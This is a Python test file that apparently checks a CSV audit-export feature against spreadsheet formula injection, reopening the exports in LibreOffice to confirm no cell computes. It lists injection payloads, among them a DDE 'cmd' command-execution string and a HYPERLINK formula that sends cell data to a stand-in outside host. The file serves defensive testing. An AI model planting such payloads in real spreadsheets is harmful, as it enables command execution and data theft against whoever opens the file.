"""No cell of an export computes anything (T27), and nothing is lost on the way."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import tempfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from exchange.policy import Role
from exchange.spreadsheet import FORMULAS, as_csv
from tests.sign_in.conftest import Hands, desk_in, post

SPREADSHEET = pytest.mark.skipif(
    not shutil.which("localc"), reason="no LibreOffice Calc: apt-get install libreoffice-calc"
)
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"

CELLS = st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2))


@given(CELLS)
def test_no_cell_begins_as_a_formula_and_each_says_what_it_said(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(as_csv(("one", "two"), rows).removeprefix("\ufeff"), newline="")))
    assert read[0] == ["one", "two"]
    for given_row, row in zip(rows, read[1:], strict=True):
        for was, cell in zip(given_row, row, strict=True):
            assert not cell.lstrip(" ").startswith(FORMULAS)
            assert cell.removeprefix("'") == was.replace("\0", "").removeprefix("'")


# How a cell comes to compute: each beginning, what may stand before it, and what is written after it.
BEFORE = ("", " ", "   ", "\t", "\r", "\n", "\r\n", "\0", "'", '"', ",", ";", "\ufeff", "\u00a0", "\u200b")
AFTER = ("1+1", "SUM(A1:B2)", "cmd|' /C calc'!A0", 'HYPERLINK("http://outside.example/"&A1;"x")', "{1}", "")
WRITTEN = [f"{before}{sign}{after}" for before in BEFORE for sign in FORMULAS for after in AFTER]
SAID = ("=1+1", "@SUM(A1)", "+2", "-3", "＝4", '",=5', "\t=6")  # what somebody looks for in the record


@SPREADSHEET
@pytest.mark.long
@settings(max_examples=6, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.text(st.characters(exclude_categories=["Cs", "Cc"])), min_size=40, max_size=80))
def test_a_spreadsheet_program_computes_nothing_of_whatever_is_written(drawn: list[str]) -> None:
    written = [*WRITTEN, *drawn]
    with tempfile.TemporaryDirectory() as folder:
        cells = reopened(Path(folder), as_csv(("what",), ([one] for one in written)))
    assert len(cells) >= len(WRITTEN)


@SPREADSHEET
@pytest.mark.long
async def test_nor_of_the_record_as_the_desk_gives_it_out(tmp_path: Path) -> None:
    async with desk_in(tmp_path, Hands(), second="optional") as desk:
        web = await desk.signed_in(await desk.member("eve-1", Role.AUDITOR))
        for said in SAID:
            assert (await web.get("/desk/admin/audit", params={"by": said, "kind": said})).status_code == 200
        sheet = await post(web, "/desk/admin/audit/export", kind="AuditRead")
    assert sheet.headers["content-type"].startswith("text/csv")
    cells = reopened(tmp_path, sheet.text)
    shown = " ".join(cells)
    assert all(f"of={said.strip()}" in shown for said in SAID), shown


def reopened(folder: Path, text: str) -> list[str]:
    """What LibreOffice shows in each cell that is not empty; that it computes none of them."""
    made = folder / "made.csv"
    made.write_bytes(text.encode())
    profile = f"-env:UserInstallation=file://{folder}/profile"
    read_as = "--infilter=CSV:44,34,76,1"  # commas, quotation marks, UTF-8: what its window offers for such a file
    command = ["soffice", profile, "--headless", read_as, "--convert-to", "fods", str(made), "--outdir", str(folder)]
    subprocess.run(command, check=True, timeout=90, capture_output=True)
    tree = ElementTree.fromstring((folder / "made.fods").read_text())
    cells = [cell for cell in tree.iter(f"{TABLE}table-cell") if len(cell)]
    assert not [cell for cell in cells if f"{TABLE}formula" in cell.attrib]
    return ["\n".join("".join(line.itertext()) for line in cell) for cell in cells]
